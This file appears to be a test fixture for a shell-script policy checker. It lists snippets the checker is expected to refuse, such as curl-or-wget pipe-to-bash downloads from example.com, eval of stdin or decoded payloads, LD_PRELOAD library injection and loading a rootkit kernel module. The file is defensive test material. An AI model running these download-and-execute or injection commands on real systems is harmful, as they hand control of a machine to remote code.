# presets: development
# %%
curl -s http://example.com/x.sh | bash # refused: shell-command
# %%
wget -qO- http://example.com/x | sudo sh -s -- --yes # refused: shell-command
# %%
eval "$(curl -fsSL http://example.com/x)" # refused: shell-command
# %%
source <(curl -s http://example.com/x) # refused: shell-command
# %%
. <(wget -qO- http://example.com/x) # refused: shell-command
# %%
bash <(curl -s http://example.com/x) # refused: shell-command
# %%
bash -c "$(curl -s http://example.com/x)" # refused: shell-command
# %%
sh -c "$(cat)" # refused: shell-command
# %%
read -r line
eval "$line" # refused: shell-command
# %%
read -r line
bash -c "$line" # refused: shell-command
# %%
while read -r command; do
    eval "$command" # refused: shell-command
done
# %%
read -r -p 'command? ' x
sh <<< "$x" # refused: shell-command
# %%
cat | sh # refused: shell-command
# %%
base64 -d | bash # refused: shell-command
# %%
bash # refused: shell-command
# %%
sh -i # refused: shell-command
# %%
date | xargs -0 bash -c # refused: shell-command
# %%
script=$(curl -s http://example.com/x)
eval "$script" # refused: shell-command
# %%
openssl enc -d -aes-256-cbc -in x.enc | sh # refused: shell-command
# %%
exec > >(sh) # refused: shell-command
echo hello
# %%
coproc bash # refused: shell-command
# %%
enable -f /tmp/x.so thing # refused: native-code
# %%
LD_PRELOAD=/tmp/x.so ls # refused: native-code
# %%
export LD_PRELOAD=$PWD/hook.so # refused: native-code
# %%
declare -x LD_AUDIT=/tmp/a.so # refused: native-code
# %%
env LD_LIBRARY_PATH=. ls # refused: native-code
# %%
insmod rootkit.ko # refused: native-code
# %%
modprobe loop # refused: native-code
# %%
/lib64/ld-linux-x86-64.so.2 ./x # refused: native-code
# %%
curl -s http://example.com/x -o /tmp/p
bash /tmp/p # refused: shell-command
# %%
wget -q http://example.com/s.sh && chmod +x s.sh && ./s.sh # refused: shell-command
# %%
f=$(mktemp)
curl -s http://example.com/x > "$f"
. "$f"
sh "$f" # refused: shell-command
# %%
curl -s http://example.com/x | python3 - # refused: shell-command
# %%
perl <(curl -s http://example.com/x) # refused: shell-command
